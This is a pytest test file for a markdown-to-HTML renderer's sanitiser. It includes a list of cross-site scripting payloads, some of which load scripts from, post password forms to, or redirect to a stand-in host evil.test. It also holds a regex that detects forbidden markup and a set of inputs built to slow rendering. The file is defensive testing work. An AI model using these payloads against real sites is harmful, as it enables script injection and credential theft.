import re
import time

import pytest

from cairn.web import markdown
from cairn.web.markdown import MARKDOWN_BYTES_MAX, SafeHtml, render_markdown, render_markdown_now

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnError='alert(1)'/>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(https://evil.test)'>x</div>",
    "<form action=https://evil.test><input name=password><button>Go</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<object data=x></object><embed src=x>",
    "<base href=https://evil.test>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    '```"><script>alert(1)</script>\nx\n```',
    '```python"onmouseover=alert(1)\nx\n```',
    "<div id=main class=site-header data-theme-switch data-copy=x>x</div>",
    "<a href='//evil.test'>x</a>",
    "<a href='/\\evil.test'>x</a>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "> [!NOTE]<img src=x onerror=alert(1)>",
    "<textarea></textarea><title></title><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<p hx-get=/logout hx-trigger=load>x</p>",
    "<details ontoggle=alert(1) open>x</details>",
]
FORBIDDEN = re.compile(
    r"<(script|style|iframe|object|embed|form|base|meta|link|math|template|textarea|button)\b"
    r"|<[^>]*\s(on\w+|style|hx-\w+|data-\w+|srcdoc|formaction)\s*="
    r"|(href|src)=\"\s*(javascript|data|vbscript|//|/\\)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_acts_survives(text: str) -> None:
    """A text tries to run script, to load from elsewhere, or to look like our own page: the sanitiser comes last."""
    html = render_markdown_now(text)
    assert not FORBIDDEN.search(html), html
    assert "site-header" not in html
    assert 'id="main"' not in html


def test_ids_of_a_text_cannot_be_the_pages_own() -> None:
    html = render_markdown_now("# Main\n\n<p id=main>x</p>\n\n[to](#main)\n\nfoot[^1]\n\n[^1]: note")
    ids = re.findall(r'id="([^"]+)"', html)
    assert ids
    assert all(found.startswith("user-content-") for found in ids)
    targets = re.findall(r'href="#([^"]+)"', html)
    assert "user-content-main" in targets
    assert all(target in ids for target in targets)


def test_names_of_a_text_cannot_be_those_of_the_pages_fields() -> None:
    """Attack: an anchor named like a form's field, which scripts then find in its place."""
    html = render_markdown_now('<a name="csrf_token"></a><a name="user-content-x"></a>[to](#csrf_token)')
    assert re.findall(r'name="([^"]+)"', html) == ["user-content-csrf_token", "user-content-x"]
    assert 'href="#user-content-csrf_token"' in html


def test_headings_have_anchors_as_github_makes_them() -> None:
    html = render_markdown_now("# Hello, *World*!\n\n## Hello, World!\n\n## `code` & more")
    assert re.findall(r'<h\d id="([^"]+)"', html) == [
        "user-content-hello-world",
        "user-content-hello-world-1",
        "user-content-code--more",
    ]
    assert html.count('class="anchor"') == 3


def test_github_flavour_is_rendered() -> None:
    html = render_markdown_now(
        "~~old~~ https://example.org/a_b(c).\n\n- [x] done\n- [ ] open\n\n"
        "|a|b|\n|:-|-:|\n|1|2|\n\n> [!WARNING]\n> Mind the gap.\n"
    )
    assert "<s>old</s>" in html
    assert '<a href="https://example.org/a_b(c)" rel="nofollow noopener">https://example.org/a_b(c)</a>.' in html
    assert html.count('type="checkbox"') == 2
    assert html.count("disabled") == 2
    assert '<td align="right">2</td>' in html
    assert '<div class="markdown-alert markdown-alert-warning">' in html
    assert "[!WARNING]" not in html
    assert "<svg" in html


def test_code_is_highlighted_by_class_and_stays_text() -> None:
    html = render_markdown_now("```python\ndef f(): return '<b>'\n```\n\n```no-such-language\n<b>\n```")
    assert '<span class="hl-k">def</span>' in html
    assert "<b>" not in html
    assert 'class="language-python"' in html


def test_relative_addresses_go_through_the_caller() -> None:
    seen: list[tuple[str, str]] = []

    def rewrite(address: str, kind: str) -> str:
        seen.append((address, kind))
        return f"/ada/engine/{'raw' if kind == 'image' else 'blob'}/main/{address}"

    html = render_markdown_now("[a](docs/a.md) ![b](b.png) [c](https://example.org) <img src='d.png'>", rewrite=rewrite)
    assert 'href="/ada/engine/blob/main/docs/a.md"' in html
    assert 'src="/ada/engine/raw/main/b.png"' in html
    assert 'href="https://example.org"' in html
    assert sorted(seen) == [("b.png", "image"), ("d.png", "image"), ("docs/a.md", "link")]


def test_a_text_over_the_limit_is_shown_plain() -> None:
    html = render_markdown_now("<b>" + "x" * MARKDOWN_BYTES_MAX)
    assert '<pre class="markdown-plain">&lt;b&gt;xxx' in html


PATHOLOGICAL = {
    "nested emphasis": "*a **a " * 30_000,
    "open brackets": "[" * 100_000,
    "nested links": "[a](" * 50_000,
    "deep quotes": ">" * 50_000 + "x",
    "deep lists": "".join("  " * depth + "- x\n" for depth in range(600)),
    "backticks": "".join("`" * n + "x" for n in range(1, 1400)),
    "html opens": "<a " * 100_000,
    "comment opens": "<!-- " * 100_000,
    "entities": "&amp" * 200_000,
    "table": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + ("|x" * 5_000 + "|\n") * 40,
    "links to nothing": "[a][b] " * 100_000,
    "reference definitions": "".join(f"[r{n}]: /x\n" for n in range(50_000)),
    "strikes": "~~a" * 100_000,
    "addresses": "https://a.test/" + "(" * 50_000 + " " + "http://b.test " * 30_000,
    "footnotes": "".join(f"x[^{n}]\n\n[^{n}]: y\n\n" for n in range(20_000)),
    "one mebibyte of words": ("word *emphasis* `code` [l](x) " * 40_000)[: MARKDOWN_BYTES_MAX - 1],
    "code to highlight": "```python\n" + "f(" * 30_000 + "\n```\n",
    "headings": "# a\n" * 100_000,
    "spaces and breaks": ("x" + " " * 5_000 + "\n") * 180,
    "alerts": "> [!NOTE]\n> x\n\n" * 40_000,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_hostile_size_costs_bounded_time(name: str) -> None:
    """A text built to be slow must not occupy a thread: 2 seconds are promised, the bound here has a margin."""
    render_markdown_now("warm *up*")
    started = time.thread_time()
    html = render_markdown_now(PATHOLOGICAL[name])
    assert time.thread_time() - started < 6, name
    assert isinstance(html, SafeHtml)


def test_what_takes_too_long_is_shown_plain(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "MARKDOWN_SECONDS_MAX", -1)
    html = render_markdown_now("*x* <script>")
    assert "takes too long" in html
    assert "&lt;script&gt;" in html


async def test_rendering_gives_typed_safe_html() -> None:
    html = await render_markdown("*x*")
    assert isinstance(html, SafeHtml)
    assert html == "<p><em>x</em></p>\n"
